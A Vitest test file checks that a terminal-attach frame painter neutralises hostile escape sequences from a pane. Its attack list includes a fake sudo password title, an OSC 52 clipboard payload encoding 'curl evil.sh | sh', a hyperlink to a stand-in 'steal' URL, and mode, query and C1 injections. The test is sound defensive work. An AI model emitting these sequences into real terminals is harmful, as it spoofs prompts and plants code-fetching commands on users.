import { afterEach, describe, expect, it } from "vitest";
import { FramePainter } from "../../src/cli/attach/frame-painter.js";
import { ENTER_ATTACH } from "../../src/cli/attach/terminal-sequences.js";
import type { FrameRun, PaneFrame } from "../../src/panes/screen-frame.js";
import { OuterTerminal } from "../support/outer-terminal.js";

const opened: OuterTerminal[] = [];
afterEach(() => {
  for (const term of opened.splice(0)) term.dispose();
});

// What a hostile pane prints to attack the person watching it, one attack a row. The frame carries them raw,
// as a forged frame or a frame builder with a bug would: the painter must not trust that frames are
// sanitized.
const ATTACKS = {
  title: "\x1b]0;[sudo] password for root:\x07\x1b]2;pwned\x1b\\",
  clipboard: "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
  hyperlink: "\x1b]8;;https://evil.example/?steal=1\x1b\\docs\x1b]8;;\x1b\\",
  dcs: '\x1bP$q"p\x1b\\\x1bP+q544e\x1b\\',
  apcPmSos: "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\",
  mouse: "\x1b[?1000h\x1b[?1003h\x1b[?1006h",
  paste: "\x1b[?2004h",
  altScreen: "\x1b[?1049l\x1b[?47h",
  charset: "\x1b(0\x1b)0\x0e",
  queries: "\x1b[c\x1b[>c\x1b[6n\x1b[5n\x1b[?u\x1b[>q\x1b]11;?\x07",
  c1: "\x9b?1000h\x9d0;c1 title\x9c\x90q\x9c\x9e\x9f\x98",
  keypad: "\x1b=\x1b[?1h",
} satisfies Record<string, string>;

function hostileFrame(): PaneFrame {
  const lines = Object.values(ATTACKS).map((text): FrameRun[] => [[text, 1, -1, 0]]);
  return {
    cols: 60,
    rows: lines.length,
    lines,
    cursor: { row: 0, col: 0 },
    cursorVisible: true,
    alternate: false,
  };
}

/** Records every title change, reply, bell, OSC, DCS and ESC dispatch, and every CSI, that reaches `term`. */
function watchEverything(outer: OuterTerminal): { fired: string[]; csi: string[] } {
  const { term } = outer;
  const fired: string[] = [];
  const csi: string[] = [];
  term.onTitleChange((title) => fired.push(`title ${JSON.stringify(title)}`));
  term.onData((data) => fired.push(`reply ${JSON.stringify(data)}`));
  term.onBell(() => fired.push("bell"));
  for (const id of [0, 1, 2, 4, 7, 8, 10, 11, 12, 52, 104, 133, 633, 777, 1337]) {
    term.parser.registerOscHandler(id, () => {
      fired.push(`OSC ${id}`);
      return false;
    });
  }
  for (let code = 0x30; code <= 0x7e; code++) {
    const final = String.fromCharCode(code);
    for (const intermediates of ["", "(", ")", "*", "+", "-", ".", "/", "#", "%", " "]) {
      term.parser.registerEscHandler({ intermediates, final }, () => {
        fired.push(`ESC ${intermediates}${final}`);
        return false;
      });
    }
    if (code < 0x40) continue;
    for (const intermediates of ["", "$", "+", " ", '"', "!", "'"]) {
      for (const prefix of ["", "?", ">", "<", "="]) {
        term.parser.registerDcsHandler({ prefix, intermediates, final }, () => {
          fired.push(`DCS ${prefix}${intermediates}${final}`);
          return false;
        });
        term.parser.registerCsiHandler({ prefix, intermediates, final }, (params) => {
          csi.push(`${prefix}${params.join(";")}${intermediates}${final}`);
          return false;
        });
      }
    }
  }
  return { fired, csi };
}

/** The CSI sequences the painter may send: CUP, SGR, EL, ED 2 and DECTCEM (parameters aside). */
function allowedCsi(sequence: string): boolean {
  return /^(?:\d+;\d+H|[\d;]*m|0?K|2J|\?25[hl])$/.test(sequence);
}

async function attachedTerminal(): Promise<{ outer: OuterTerminal; fired: string[]; csi: string[] }> {
  const outer = new OuterTerminal(60, 16);
  opened.push(outer);
  await outer.write(ENTER_ATTACH);
  return { outer, ...watchEverything(outer) };
}

describe("a hostile pane's output cannot act on the person's terminal (seed §4.2)", () => {
  it("title, OSC 52, OSC 8, DCS, APC/PM/SOS, mode, charset, query and C1 text is shown, never executed", async () => {
    const { outer, fired, csi } = await attachedTerminal();
    const modes = { ...outer.term.modes };
    const painter = new FramePainter();
    await outer.write(
      painter.paint(hostileFrame(), { cols: 60, rows: 16 }, ATTACKS.title + ATTACKS.clipboard),
    );
    // A second paint with the attacks moved to other rows: the repaint path too.
    const moved = hostileFrame();
    moved.lines.reverse();
    await outer.write(painter.paint(moved, { cols: 60, rows: 16 }, ATTACKS.mouse));

    expect(fired).toEqual([]);
    expect(csi.filter((sequence) => !allowedCsi(sequence))).toEqual([]);
    expect(outer.term.modes).toEqual(modes);
    expect(outer.term.modes.mouseTrackingMode).toBe("none");
    expect(outer.term.modes.bracketedPasteMode).toBe(false);
    expect(outer.term.buffer.active.type).toBe("alternate");
    // The attacks are visible as the agent reads them: a placeholder where the ESC was, the rest as text.
    const screen = outer.screen();
    expect(screen.at(-1)).toContain("⟨U+001B⟩[?1000h");
    expect(screen).toContain("⟨U+001B⟩]52;c;Y3VybCBldmlsLnNoIHwgc2g=⟨U+0007⟩");
    expect(
      screen.some((row) => row.startsWith("⟨U+001B⟩]8;;https://evil.example/?steal=1⟨U+001B⟩\\docs")),
    ).toBe(true);
    expect(screen.some((row) => row.startsWith("⟨U+001B⟩[c⟨U+001B⟩[>c⟨U+001B⟩[6n"))).toBe(true);
    expect(screen.join("\n")).toContain("⟨U+001B⟩_apc⟨U+001B⟩\\⟨U+001B⟩^pm");
    expect(screen.join("\n")).not.toMatch(/[─│┌]/);
  });

  it("control: the same attacks written raw do fire the watchers (so the test above can fail)", async () => {
    const { outer, fired, csi } = await attachedTerminal();
    const modes = { ...outer.term.modes };
    await outer.write(Object.values(ATTACKS).join(""));
    expect(fired).toEqual(
      expect.arrayContaining([
        'title "pwned"',
        "OSC 52",
        "OSC 8",
        "DCS $q",
        "ESC (0",
        expect.stringMatching(/^reply /),
      ]),
    );
    expect(csi.filter((sequence) => !allowedCsi(sequence)).length).toBeGreaterThan(0);
    expect(outer.term.modes).not.toEqual(modes);
  });
});
